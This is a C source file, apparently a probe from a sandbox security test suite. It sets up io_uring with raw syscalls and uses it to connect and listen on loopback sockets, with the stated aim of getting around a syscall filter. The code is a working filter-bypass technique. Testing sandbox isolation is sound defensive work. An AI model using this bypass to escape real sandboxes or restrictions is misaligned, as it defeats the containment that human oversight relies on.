/* io_uring executes calls without passing the filter: a connect to loopback on a host socket, if it can be had. */
#define _GNU_SOURCE
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "attack.h"

static struct io_uring_params parameters;
static int ring = -1;
static char *rings;
static struct io_uring_sqe *entries;

static bool set_up(void) {
  ring = (int)syscall(SYS_io_uring_setup, 4, &parameters);
  note("setup=%s", outcome(ring));
  if (ring < 0) return false;
  rings = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
  entries = mmap(NULL, 4 * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
  return true;
}

static int submit(struct io_uring_sqe entry) {
  unsigned *tail = (unsigned *)(rings + parameters.sq_off.tail);
  unsigned *array = (unsigned *)(rings + parameters.sq_off.array);
  unsigned slot = *tail & 3;
  entries[slot] = entry;
  array[slot] = slot;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
  unsigned *head = (unsigned *)(rings + parameters.cq_off.head);
  struct io_uring_cqe *done = (struct io_uring_cqe *)(rings + parameters.cq_off.cqes);
  int result = done[*head & (parameters.cq_entries - 1)].res;
  __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
  return result;
}

static int uring_connect(int fd, struct address *to) {
  return submit((struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (unsigned long)&to->raw, .off = to->length});
}

int main(void) {
  if (!set_up()) return finish();
  struct address victim = address("127.0.0.1", LOOPBACK_PORT);
  struct address nowhere = {.length = 16};
  int makers[] = {connected_socket(AF_INET, SOCK_STREAM), refused_socket(AF_INET), socket(AF_INET, SOCK_STREAM, 0)};
  for (int i = 0; i < 3; i++) {
    if (i == 0) note("disconnect=%d", uring_connect(makers[i], &nowhere));
    note("connect=%d", uring_connect(makers[i], &victim));
    greeting(makers[i]);
    if (i == 1) {
      note("listen=%d", submit((struct io_uring_sqe){.opcode = 57 /* IORING_OP_LISTEN, 6.11 */, .fd = makers[i], .len = 5}));
      int listening = 0;
      socklen_t length = sizeof listening;
      getsockopt(makers[i], SOL_SOCKET, SO_ACCEPTCONN, &listening, &length);
      if (listening) note("port=%s", look_at_port(makers[i], "tcp"));
    }
  }
  return finish();
}
